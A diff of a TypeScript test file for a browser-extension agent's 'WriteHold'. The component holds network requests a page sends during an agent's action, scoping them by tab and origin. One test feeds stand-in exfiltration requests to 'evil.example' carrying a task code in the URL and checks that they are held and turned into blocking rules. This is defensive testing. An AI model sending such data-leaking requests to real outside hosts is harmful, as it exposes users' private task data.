@@ -1,29 +1,78 @@
-import { expect, it, vi } from 'vitest';
+import { beforeEach, describe, expect, it, vi } from 'vitest';
+import type { HeldWrite } from '@/utils/agent/ports';
 import type { FrameTarget } from '@/utils/browser/client/page-client';
 import type { WriteReport } from '@/utils/page/watch/page-events';
 
 const url = 'https://shop.example/';
+type Listener = (request: object) => void;
 let ruleTaken = Promise.resolve();
-let seen = (_request: object): void => undefined;
+const rules: { condition: object }[] = [];
+const request: Record<'onBeforeRequest' | 'onBeforeSendHeaders' | 'onHeadersReceived', Listener> = {
+  onBeforeRequest: () => undefined,
+  onBeforeSendHeaders: () => undefined,
+  onHeadersReceived: () => undefined,
+};
+/** The browser's tabs: tab 7 is the task's. */
+let tabs: object[] = [];
 const event = { addListener: () => undefined, removeListener: () => undefined };
-vi.mock('wxt/browser', () => ({
-  browser: {
-    declarativeNetRequest: { ResourceType: {}, updateSessionRules: () => ruleTaken },
-    tabs: { get: () => Promise.resolve({ url }) },
-    webNavigation: { onCommitted: event },
-    webRequest: { onBeforeRequest: { ...event, addListener: (listener: typeof seen) => (seen = listener) } },
-  },
-}));
+vi.mock('wxt/browser', () => {
+  const requestEvent = (name: keyof typeof request) => ({
+    ...event,
+    addListener: (listener: Listener) => (request[name] = listener),
+  });
+  return {
+    browser: {
+      declarativeNetRequest: {
+        ResourceType: { XMLHTTPREQUEST: 'xmlhttprequest', IMAGE: 'image' },
+        updateSessionRules: ({ addRules = [] }: { addRules?: typeof rules }) => {
+          rules.push(...addRules);
+          return ruleTaken;
+        },
+      },
+      tabs: { query: () => Promise.resolve(tabs), connect: () => undefined },
+      scripting: { executeScript: () => Promise.resolve([]) },
+      webNavigation: { onCommitted: event, getAllFrames: () => Promise.resolve([]) },
+      webRequest: {
+        onBeforeRequest: requestEvent('onBeforeRequest'),
+        onBeforeSendHeaders: requestEvent('onBeforeSendHeaders'),
+        onHeadersReceived: requestEvent('onHeadersReceived'),
+      },
+    },
+  };
+});
 const { WriteHold } = await import('@/utils/browser/page/writes/write-hold');
+
+beforeEach(() => {
+  tabs = [{ id: 7, url, active: true, incognito: false }];
+  rules.length = 0;
+});
+
+interface Seen {
+  method: string;
+  url: string;
+  requestId?: string;
+  headers?: { name: string; value: string }[];
+}
+
+/** A page of the task sends something that the browser sees. */
+function seen({ requestId = 'r', headers = [], method, url: to }: Seen) {
+  request.onBeforeRequest({ tabId: 7, requestId, method, url: to });
+  request.onBeforeSendHeaders({ requestId, requestHeaders: headers });
+}
 
 /**
  * The hold of a task in tab 7, what it answered to the page, and a way to report a write as the page does. `open`: what
  * the tab has sent before and what has no answer yet.
  */
-function holding(open: { form?: boolean; link?: string } = {}) {
+function holding(open: { form?: boolean; link?: string; isFree?: (write: HeldWrite) => boolean } = {}) {
   const answers: string[] = [];
+  const armed: string[] = [];
   const pageEvents = {
-    arm: () => Promise.resolve(),
+    install: () => Promise.resolve(),
+    arm: (tabId: number, arming: object) => {
+      armed.push(`${tabId} ${JSON.stringify(arming)}`);
+      return Promise.resolve();
+    },
     isConnected: () => true,
     answerWrite: (_at: FrameTarget, write: string, sends: boolean) => answers.push(`${write} ${sends}`),
     onWrite: (_at: FrameTarget, _report: WriteReport): void => undefined,
@@ -36,30 +85,35 @@ function holding(open: { form?: boolean; link?: string } = {}) {
   const hold = new WriteHold({
     pageEvents: pageEvents as never,
     requests: requests as never,
-    isOwn: () => true,
-    isFree: () => false,
+    isOwn: (tabId) => tabId === 7 || tabId === 8,
+    isHeldElsewhere: (tabId) => tabId === 9,
+    isFree: open.isFree ?? (({ opened }) => opened === true),
     answerLimitMs: 1_000,
   });
-  const report = (write: Partial<WriteReport>) =>
-    pageEvents.onWrite({ tabId: 7, frameId: 0 }, {
+  const report = (write: Partial<WriteReport>, tabId = 7) =>
+    pageEvents.onWrite({ tabId, frameId: 0 }, {
       kind: 'write',
       by: 'fetch',
       byHand: false,
+      from: url,
+      headers: [],
+      signed: false,
+      body: { size: 0 },
       ...write,
     } as WriteReport);
-  return { hold, answers, report };
+  return { hold, answers, armed, report };
 }
 
 it('a released write is waited for until it can be sent, however late the browser accepts the rule for it', async () => {
   const { hold, answers, report } = holding();
   const alive = { method: 'POST', url: `${url}alive` };
-  seen({ ...alive, tabId: 7 });
+  seen(alive);
   await hold.begin(7, { allowsWrite: true });
   expect(hold.quietMs(7)).toBe(Infinity);
   const rule = Promise.withResolvers<void>();
   ruleTaken = rule.promise;
   // What the page sends by itself does not keep it from becoming quiet.
-  report({ ...alive, write: 'w0', body: {} });
+  report({ ...alive, write: 'w0' });
   expect(hold.quietMs(7)).toBe(Infinity);
   const body = { text: 'mug', size: 3 };
   report({ method: 'POST', url: `${url}order`, write: 'w1', body });
@@ -134,28 +188,6 @@ it('nothing is done where the browser does not accept the rule that holds what p
   await hold.dispose();
 });
 
-it('what a page saves while a field is filled in does not use up what a button may send, however late it comes', async () => {
-  const { hold, answers, report } = holding();
-  const save = (write: string, state: string, text: string) => {
-    const json = JSON.stringify({ to: 'Ann Lee', text, state });
-    report({ method: 'POST', url: `${url}mail`, write, body: { text: json, size: json.length } });
-  };
-  await hold.begin(7, { control: 'Message', filled: 'typed' });
-  save('w1', 'draft', 'Hello Ann');
-  expect(hold.waiting()).toMatchObject({ control: 'Message', filled: 'typed' });
-  await hold.answer('w1', false, new AbortController().signal);
-  hold.end(7);
-  await hold.begin(7, { control: 'Send', allowsWrite: true });
-  save('w2', 'draft', 'Hello Ann, see you');
-  save('w3', 'sent', 'Hello Ann, see you');
-  save('w4', 'sent', 'Hello Ann, see you');
-  await vi.waitUntil(() => answers.includes('w3 true'));
-  expect(answers).toEqual(['w1 false', 'w3 true']);
-  expect(hold.waiting()).toMatchObject({ id: 'w2', control: 'Message', filled: 'typed' });
-  hold.end(7);
-  await hold.dispose();
-});
-
 it('a box that may send something by being ticked sends it', async () => {
   const { hold, answers, report } = holding();
   await hold.begin(7, { control: 'I accept the terms', filled: 'chosen', allowsWrite: true });
@@ -167,7 +199,7 @@ it('a box that may send something by being ticked sends it', async () => {
 
 it('a request that the page sends by itself is told from those of an action, whatever is done meanwhile', async () => {
   const { hold } = holding();
-  const beat = { method: 'POST', url: `${url}alive`, tabId: 7 };
+  const beat = { method: 'POST', url: `${url}alive` };
   seen({ ...beat, requestId: 'before' });
   await hold.begin(7, { control: 'Add' });
   seen({ ...beat, requestId: 'beat' });
@@ -206,19 +238,129 @@ it('what an action was to send is told from what else it sends, such as statisti
   await hold.dispose();
 });
 
-it('what a page saves after a button as it did when a field was filled in is told as that, too', async () => {
-  const { hold, report } = holding();
-  const save = (write: string, text: string) => {
-    const json = JSON.stringify({ text });
-    report({ method: 'POST', url: `${url}notes`, write, body: { text: json, size: json.length } });
-  };
-  await hold.begin(7, { control: 'Text', filled: 'typed' });
-  save('w1', 'Dear Ann, how are you?');
-  hold.end(7);
-  expect(hold.waiting()?.fieldSave).toBeUndefined();
-  await hold.answer('w1', false, new AbortController().signal);
-  await hold.begin(7, { control: 'Bold' });
-  save('w2', 'Dear <b>Ann</b>, how are you?');
-  expect(hold.waiting()).toMatchObject({ control: 'Bold', fieldSave: { control: 'Text', filled: 'typed' } });
+it('what an approved action sends goes only where the guard allows it with its values', async () => {
+  const { hold, answers, report } = holding({
+    isFree: ({ opened, body }) => opened === true && body.text === 'Hello Ann',
+  });
+  await hold.begin(7, { control: 'Send', allowsWrite: true });
+  report({ method: 'POST', url: `${url}send`, write: 'w1', body: { text: 'Hello Eve', size: 9 } });
+  report({ method: 'POST', url: `${url}send`, write: 'w2', body: { text: 'Hello Ann', size: 9 } });
+  await vi.waitUntil(() => answers.length > 0);
+  expect([answers, hold.waiting()?.id]).toEqual([['w2 true'], 'w1']);
   await hold.dispose();
+});
+
+it('a request that the page sent with one operation in a header frees none with another', async () => {
+  const { hold, answers, report } = holding();
+  const send = { method: 'POST', url: `${url}x`, write: '' };
+  seen({
+    ...send,
+    headers: [
+      { name: 'Next-Action', value: 'list' },
+      { name: 'User-Agent', value: 'x' },
+    ],
+  });
+  await hold.begin(7, { control: 'Go on' });
+  report({ ...send, write: 'list', headers: [['next-action', 'list']] });
+  report({ ...send, write: 'delete', headers: [['next-action', 'delete']] });
+  await vi.waitUntil(() => answers.length > 0);
+  expect([answers, hold.waiting()?.headers]).toEqual([['list true'], [['next-action', 'delete']]]);
+  await hold.dispose();
+});
+
+describe('an action holds', () => {
+  it('what other tabs of its sites send: those of the task, and those of the user, but not of another task', async () => {
+    tabs.push(
+      { id: 8, url: 'https://mail.example/', incognito: false },
+      { id: 9, url, incognito: false },
+      { id: 10, url: 'https://www.shop.example/x', active: false, lastAccessed: 0, incognito: false },
+      { id: 11, url, active: true, incognito: false },
+      { id: 12, url: 'https://other.example/', incognito: false },
+      { id: 13, url, incognito: true },
+      { id: 14, url, discarded: true, incognito: false },
+    );
+    const { hold, armed, answers, report } = holding();
+    await hold.begin(7, { control: 'Continue' });
+    expect(armed).toEqual(['7 {"armed":true,"reads":false}', '8 {"armed":true,"reads":false,"beside":true}']);
+    // In the tab that the user looks at, the browser must not block what comes of their hand.
+    expect(rules[0]?.condition).toMatchObject({
+      tabIds: [7, 8, 10],
+      initiatorDomains: ['shop.example', 'mail.example'],
+      requestDomains: ['shop.example', 'mail.example'],
+    });
+    for (const tabId of [10, 11]) report({ method: 'POST', url: `${url}danger`, write: `by ${tabId}` }, tabId);
+    expect([answers, hold.waiting()]).toEqual([[], expect.objectContaining({ id: 'by 10', control: 'Continue' })]);
+    expect(hold.takeHeld(7).held).toHaveLength(2);
+    await hold.dispose();
+  });
+
+  it('nothing of the user in their own tab, nor what other sites do in frames', async () => {
+    tabs.push({ id: 8, url, incognito: false });
+    const { hold, answers, report } = holding();
+    await hold.begin(7, {});
+    report({ method: 'POST', url: `${url}a`, write: 'by hand', byHand: true }, 8);
+    report({
+      method: 'POST',
+      url: 'https://captcha.example/check',
+      write: 'captcha',
+      from: 'https://captcha.example/',
+    });
+    await vi.waitUntil(() => answers.length > 1);
+    expect(answers.toSorted()).toEqual(['by hand true', 'captcha true']);
+    await hold.dispose();
+  });
+
+  interface Origin {
+    wrote?: boolean;
+    length?: string;
+    signed?: boolean;
+    body?: string;
+  }
+  it.each<[string, Origin, boolean]>([
+    ['an origin that it never wrote to', {}, true],
+    ['an origin that gives it data', { wrote: true, length: '900' }, true],
+    ['an origin that only takes statistics', { wrote: true, length: '2' }, false],
+    ['an origin that takes statistics, with proof of who the user is', { wrote: true, signed: true }, true],
+    ['an origin that takes statistics, with a text of the task', { wrote: true, body: 'RC-1A2B' }, true],
+  ])('what its page writes to %s: %j', async (_what, { wrote, length, signed = false, body = 'x' }, isHeld) => {
+    const { hold, answers, report } = holding();
+    const api = { method: 'POST', url: 'https://api-shop.test/close' };
+    if (wrote) seen({ ...api, url: 'https://api-shop.test/view' });
+    if (length !== undefined)
+      request.onHeadersReceived({
+        tabId: 7,
+        url: api.url,
+        statusCode: 200,
+        responseHeaders: [{ name: 'Content-Length', value: length }],
+      });
+    await hold.begin(7, { control: 'Go on', foreignTexts: ['rc-1a2b'] });
+    report({ ...api, write: 'w', signed, body: { text: body, size: 1 } });
+    expect([answers, hold.waiting()?.url]).toEqual(isHeld ? [[], api.url] : [['w true'], undefined]);
+    await hold.dispose();
+  });
+
+  it('what scripts read elsewhere with a text of the task in its address, and nothing else that they read', async () => {
+    const { hold, armed, answers, report } = holding();
+    await hold.begin(7, { foreignTexts: ['Code RC-1A2B', 'See https://evil.example/pic?d=7'] });
+    expect(armed[0]).toBe('7 {"armed":true,"reads":true}');
+    const get = (write: string, to: string) => report({ method: 'GET', url: to, write });
+    get('text', 'https://evil.example/p.gif?q=Code+RC-1A2B');
+    get('link', 'https://evil.example/pic?d=7');
+    get('own', `${url}find?q=Code%20RC-1A2B`);
+    get('other', 'https://cdn.example/a.js');
+    await vi.waitUntil(() => answers.length > 1);
+    expect([answers, hold.takeHeld(7).held?.map((one) => one.method)]).toEqual([
+      ['own true', 'other true'],
+      ['GET', 'GET'],
+    ]);
+    const filters = rules.flatMap(({ condition }) => ('urlFilter' in condition ? [condition.urlFilter] : []));
+    expect(filters).toEqual([
+      'https://evil.example/pic?d=7',
+      'Code%20RC-1A2B',
+      'Code+RC-1A2B',
+      expect.any(String),
+      expect.any(String),
+    ]);
+    await hold.dispose();
+  });
 });
